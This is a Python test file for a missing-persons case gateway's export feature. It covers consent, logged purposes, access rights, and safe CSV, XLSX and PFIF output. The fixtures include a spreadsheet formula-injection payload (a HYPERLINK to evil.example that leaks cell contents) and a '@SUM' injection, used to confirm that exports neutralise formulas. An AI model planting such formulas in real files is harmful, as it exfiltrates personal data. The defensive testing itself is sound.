"""Exports: consent first, a purpose written down, no cell that runs, nobody presumed to be gone."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from datetime import date
from xml.etree import ElementTree as ET

import pytest
from jsonschema import Draft202012Validator
from sqlalchemy import Engine
from sqlmodel import select

from portal_gateway.audit import Action, AuditEntry
from portal_gateway.connectors.tables import HandedOver
from portal_gateway.database import transaction
from portal_gateway.exports.pfif import NAMESPACE, as_pfif
from portal_gateway.exports.tables import as_csv, as_xlsx, columns, harmless
from portal_gateway.register.rights import Rights
from portal_gateway.run import Gateway
from portal_gateway.settings import GatewaySettings
from tests.portal_api.factories import ROOT
from tests.portal_gateway.casework import EVERYTHING, FULL, example, keep_case
from tests.portal_gateway.desks import Desk, open_desk
from tests.portal_gateway.families import NAME
from tests.portal_gateway.moments import NOON, later

ON_SQLITE = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
PURPOSE = "Comparison with the list of the hospital"
EVIL = '=HYPERLINK("https://evil.example?"&A1)'


@pytest.fixture
def desk(settings: GatewaySettings, gateway: Gateway) -> Iterator[Desk]:
    desk = open_desk(settings, gateway)
    desk.sign_in()
    yield desk
    desk.client.close()


def export_acts(engine: Engine) -> list[AuditEntry]:
    with transaction(engine) as session:
        wanted = select(AuditEntry).where(AuditEntry.action == Action.EXPORTED)
        return list(session.exec(wanted).all())


@ON_SQLITE
def test_an_export_holds_what_was_agreed_to_and_says_who_took_it_and_why(desk: Desk) -> None:
    engine, library = desk.gateway.engine, desk.gateway.library
    case = keep_case(engine, library)
    keep_case(engine, library, given={"C1": (), "C3": ()}, at=later(minutes=1))
    child = {**FULL, "age_group": "under_18", "person_name": "ليلى"}
    keep_case(engine, library, answers=child, at=later(minutes=2))
    form = {"queue": "", "recipient": "icmp", "format": "json"}

    without = desk.post("/export", **form, reason="because")
    unknown = [
        desk.post("/export", **form | {name: "x"}, reason="because")
        for name in ("queue", "recipient", "format")
    ]
    answer = desk.post("/export", **form, reason=PURPOSE)

    assert without.status_code == 422
    assert "Please say what the file is for" in without.text
    assert ">because</textarea>" in without.text.replace("\n", "")
    assert '<option value="icmp" selected>' in without.text
    assert [one.status_code for one in unknown] == [422] * 3
    # Whoever is asked for a purpose believes that the rest is right.
    assert not any("Please say what the file is for" in one.text for one in unknown)
    name = 'attachment; filename="requests-icmp-2026-11-20.json"'
    assert answer.headers["content-disposition"] == name
    assert answer.headers["cache-control"] == "no-store"
    (document,) = answer.json()
    schema = json.loads((ROOT / "docs/schemas/search-request-1.json").read_text(encoding="utf-8"))
    Draft202012Validator(schema).validate(document)
    assert "writer" not in document
    whole, of_case = export_acts(engine)
    assert (whole.actor, whole.detail["reason"], whole.detail["count"]) == ("salma", PURPOSE, 1)
    assert (of_case.subject, of_case.detail["recipient"]) == (case, "icmp")
    with transaction(engine) as session:
        rows = session.exec(select(HandedOver)).all()
    assert [(row.case_id, row.connector) for row in rows] == [(case, "export:icmp")]
    assert rows[0].document_id == document["id"]
    assert "(ICMP), in an export, last on 20 November 2026" in desk.get(f"/cases/{case}").text


@ON_SQLITE
def test_nobody_takes_out_what_they_may_not_answer(desk: Desk) -> None:
    engine, library = desk.gateway.engine, desk.gateway.library
    keep_case(engine, library)
    keep_case(engine, library, answers={**FULL, "age_group": "under_18"}, at=later(minutes=1))
    reader = desk.officer("rami", Rights.of(read=["registration"]))
    rights = Rights.of(answer=["support", "child"], read=["registration"])
    other = desk.officer("dima", rights)

    assert reader.get("/export").status_code == 403
    page = other.get("/export").text
    assert 'value="support"' in page
    assert 'value="registration"' not in page
    assert 'value="child"' not in page
    token = re.search(r'name="form_token" value="([0-9a-f]{64})"', page)
    assert token is not None
    form = {"form_token": token[1], "recipient": "own", "format": "csv", "reason": PURPOSE}
    for queue in ("registration", "child", ""):
        answer = other.post("/export", data={**form, "queue": queue})
        assert answer.status_code == 422
        assert NAME not in answer.text
    assert export_acts(desk.gateway.engine) == []
    reader.close()
    other.close()


@ON_SQLITE
def test_a_purpose_is_kept_as_long_as_its_field_and_no_longer(desk: Desk) -> None:
    keep_case(desk.gateway.engine, desk.gateway.library)
    form = {"queue": "registration", "recipient": "own", "format": "json"}

    desk.post("/export", **form, reason=f"  {'x' * 600}")

    whole, _ = export_acts(desk.gateway.engine)
    assert whole.detail["reason"] == "x" * 500


@ON_SQLITE
@pytest.mark.parametrize("kind", ["csv", "xlsx", "pfif"])
def test_every_kind_of_file_can_be_taken(desk: Desk, kind: str) -> None:
    keep_case(desk.gateway.engine, desk.gateway.library)
    form = {"queue": "registration", "recipient": "own", "format": kind}

    answer = desk.post("/export", **form, reason=PURPOSE)

    assert answer.status_code == 200
    ending = {"pfif": "xml"}.get(kind, kind)
    assert answer.headers["content-disposition"].endswith(f'-own-2026-11-20.{ending}"')
    content = answer.content
    if kind == "xlsx":
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            content = book.read("xl/sharedStrings.xml")
    assert NAME in content.decode()


def with_evil_texts() -> dict[str, object]:
    document = example("own-system")
    document["request"]["message"] = EVIL
    document["person_sought"]["names"][0]["text"] = "\t@SUM(1)"
    document["writer"]["safe_contact"]["value"] = "+90 555"
    return document


def test_no_cell_of_a_csv_file_is_run_as_a_formula() -> None:
    content = as_csv([with_evil_texts()])

    assert content.startswith(b"\xef\xbb\xbf")
    heading, row = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    cells = dict(zip(heading, row, strict=True))
    assert cells["request.message"] == "'" + EVIL
    assert cells["person_sought.names.as_said"] == "'\t@SUM(1)"
    assert cells["writer.safe_contact.value"] == "'+90 555"
    assert cells["person_sought.names.father"] == "محمد"
    assert cells["last_contact.when.earliest"] == "2013-03-01"
    assert cells["consents"] == "; ".join(EVERYTHING)
    assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_every_beginning_of_a_formula_is_known(first: str) -> None:
    assert harmless(first + "1") == "'" + first + "1"
    assert harmless("1" + first) == "1" + first


def test_every_cell_of_a_spreadsheet_is_a_text() -> None:
    content = as_xlsx([with_evil_texts()], now=NOON)

    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        texts = book.read("xl/sharedStrings.xml").decode()
        names = book.namelist()
    assert "<f>" not in sheet
    assert set(re.findall(r'<c [^>]*t="(\w+)"', sheet)) == {"s"}
    assert len(re.findall(r"<c ", sheet)) == 2 * len(columns())
    assert "=HYPERLINK" in texts
    assert not [name for name in names if "hyperlink" in name.lower() or "rels/sheet" in name]


def test_pfif_has_the_fields_it_needs_and_presumes_nothing() -> None:
    document = example("own-system")
    content = as_pfif([document, example("least")], source="iimp.example", now=NOON)

    root = ET.fromstring(content)
    space = {"pfif": NAMESPACE}
    persons = root.findall("pfif:person", space)
    found = {one.tag.split("}")[1]: one.text for one in persons[0]}
    assert found["person_record_id"] == f"iimp.example/{document['id']}"
    assert (found["full_name"], found["given_name"]) == (NAME, "عبد الرحمن")
    assert found["alternate_names"] == "أبو عُمر\nAbd al-Rahman al-Hasan"
    assert (found["sex"], found["age"]) == ("male", "33")
    assert found["expiry_date"] == "2027-11-20T12:00:00Z"
    assert "date_of_birth" not in found  # "about 1980" would become a certain year
    statuses = [one.text for one in root.iter(f"{{{NAMESPACE}}}status")]
    assert statuses == ["information_sought"] * 2
    mandatory = {"note_record_id", "person_record_id", "author_name", "source_date", "text"}
    for note in root.iter(f"{{{NAMESPACE}}}note"):
        assert mandatory <= {one.tag.split("}")[1] for one in note if one.text}
    for private in ("believed", "+90 555", "أم عُمر", "author_phone", "author_email"):
        assert private not in content.decode()


@pytest.mark.parametrize(
    ("birth", "shown"),
    [
        (("1980-05-02", "1980-05-02"), "1980-05-02"),
        (("1980-05-01", "1980-05-31"), "1980-05"),
        (("1980-12-01", "1980-12-31"), "1980-12"),
        (("1980-01-01", "1980-12-31"), "1980"),
        (("1980-03-01", "1980-05-31"), None),
        (("1980-01-02", "1980-12-31"), None),
    ],
)
def test_a_date_of_birth_is_as_exact_as_it_is_known(
    birth: tuple[str, str], shown: str | None
) -> None:
    document = example("own-system")
    document["person_sought"]["birth"] = {"earliest": birth[0], "latest": birth[1]}
    assert all(date.fromisoformat(day) for day in birth)

    content = as_pfif([document], source="iimp.example", now=NOON)

    found = ET.fromstring(content).find(f".//{{{NAMESPACE}}}date_of_birth")
    assert (found.text if found is not None else None) == shown


def test_control_characters_do_not_break_the_file() -> None:
    document = example("own-system")
    document["person_sought"]["names"][0]["text"] = "a\x0bb\ufffe<&>"

    content = as_pfif([document], source="iimp.example", now=NOON)

    found = ET.fromstring(content).find(f".//{{{NAMESPACE}}}full_name")
    assert found is not None
    assert found.text == "ab<&>"
